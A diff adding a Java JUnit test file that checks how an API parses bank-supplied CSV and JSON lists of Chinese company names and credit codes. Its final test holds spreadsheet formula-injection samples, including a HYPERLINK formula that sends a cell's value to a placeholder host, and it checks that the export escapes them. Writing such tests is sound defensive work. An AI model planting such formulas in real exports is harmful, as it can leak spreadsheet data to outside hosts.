@@ -1,0 +1,74 @@
+package org.xinyong.api.check;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.xinyong.api.http.Problem;
+import org.xinyong.api.testing.TestCodes;
+
+/** What a check reads of what a bank sends (every entry as meant, or a 400 saying why) and what its CSV answer holds. */
+class CheckInputTest {
+    private static final ObjectMapper MAPPER = new ObjectMapper();
+    private static final String CODE = TestCodes.creditCode("320602", 100001);
+
+    private static List<CheckEntry> csv(String text) {
+        return CheckInput.parse(text.getBytes(StandardCharsets.UTF_8), "text/csv", MAPPER, 10_000).entries();
+    }
+
+    private static List<String> namesAndCodes(List<CheckEntry> entries) {
+        return entries.stream().map(e -> e.name() + "|" + e.code()).toList();
+    }
+
+    @Test
+    void headers_asBanksWriteThem_nameTheirColumns() {
+        assertEquals(List.of("南通金海家纺有限公司|" + CODE, "启东市宏远建筑工程有限公司|"),
+                namesAndCodes(csv("序号,公司名称,社会信用代码\n1,南通金海家纺有限公司," + CODE + "\n2,启东市宏远建筑工程有限公司,\n")));
+        assertEquals(List.of("南通金海家纺有限公司|" + CODE),
+                namesAndCodes(csv("客户名称,统一社会信用代码\n南通金海家纺有限公司," + CODE + "\n")));
+        assertEquals(List.of("南通金海家纺有限公司|" + CODE),
+                namesAndCodes(csv("Company Name,Credit Code\n南通金海家纺有限公司," + CODE + "\n")));
+    }
+
+    @Test
+    void withoutAHeader_oneOrTwoColumns_areReadByShape() {
+        assertEquals(List.of("南通金海家纺有限公司|" + CODE, "南通代码科技有限公司|"),
+                namesAndCodes(csv("南通金海家纺有限公司," + CODE + "\n南通代码科技有限公司\n")));
+        assertEquals(List.of("南通代码科技有限公司|", "南通金海家纺有限公司|"),
+                namesAndCodes(csv("南通代码科技有限公司\n南通金海家纺有限公司\n")), "a name with 代码 in the first row is no header");
+        assertEquals(List.of("南通金海家纺有限公司|"), namesAndCodes(csv("1,南通金海家纺有限公司\n")), "a row number is no name");
+    }
+
+    @Test
+    void threeColumnsWithoutAHeader_areRefused_notGuessed() {
+        Problem refused = assertThrows(Problem.class, () -> csv("1,南通金海家纺有限公司," + CODE + "\n"));
+        assertEquals(400, refused.status());
+        assertEquals("bad-csv-header", refused.type());
+    }
+
+    @Test
+    void aJsonEntryWithNeitherNameNorCode_isRefused_withItsNumber() {
+        Problem refused = assertThrows(Problem.class, () -> CheckInput.parse(
+                "[{\"name\": \"南通金海家纺有限公司\"}, {\"companyName\": \"启东市宏远建筑工程有限公司\"}]".getBytes(StandardCharsets.UTF_8),
+                "application/json", MAPPER, 10));
+        assertEquals(400, refused.status());
+        assertEquals("第2条没有名称也没有代码", refused.title());
+    }
+
+    @Test
+    void aCellASpreadsheetWouldRun_isAnsweredAsText() {
+        for (String formula : List.of("=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1")) {
+            assertEquals("'" + formula, CheckOutput.inert(formula));
+        }
+        assertEquals("南通金海家纺有限公司", CheckOutput.inert("南通金海家纺有限公司"));
+        assertEquals("", CheckOutput.inert(""));
+        String answer = new String(CheckOutput.csv(List.of(new CheckResult(new CheckEntry(0, "=1+1", ""),
+                CheckResult.Verdict.CLEAR, 0, List.of(), null, List.of(), List.of())), StandardCharsets.UTF_8), StandardCharsets.UTF_8);
+        assertEquals(-1, answer.indexOf(",=1+1"), answer);
+        assertTrue(answer.contains(",'=1+1,"), answer);
+    }
+}
